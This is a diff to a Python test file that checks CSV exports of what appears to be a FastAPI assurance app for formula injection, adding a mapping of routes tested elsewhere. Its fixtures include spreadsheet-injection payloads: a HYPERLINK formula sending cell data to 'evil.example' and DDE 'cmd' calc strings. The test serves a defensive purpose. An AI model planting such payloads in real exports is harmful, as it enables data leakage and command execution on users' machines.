@@ -26,6 +26,11 @@ A = "/api/v1/assurance"
 ORG_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Fjord")'
 ENTITY_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
 NARRATIVE = "+1+cmd|' /C calc'!A0"
+# Exports whose world another module builds, where the same check is made.
+WALKED_ELSEWHERE = {
+    "/api/v1/carbon/cbam/imports.csv":
+        "tests/api/test_carbon_cbam_api.py::test_the_importer_json_csv_and_page",
+}
 
 
 def _csv_routes(app: FastAPI) -> set[str]:
@@ -60,8 +65,8 @@ def test_no_export_cell_starts_with_a_formula(app: FastAPI, db: Session,
         f"{A}/self-assessments/{{assessment_id}}/export":
             f"{A}/self-assessments/{scope.self_assessment_id}/export",
     }
-    # A new export route must be walked here too.
-    assert _csv_routes(app) == set(urls)
+    # A new export route must be walked here too, or where its world is built.
+    assert _csv_routes(app) == set(urls) | set(WALKED_ELSEWHERE)
     for url in urls.values():
         response = member.get(url)
         assert response.status_code == 200, (url, response.text)
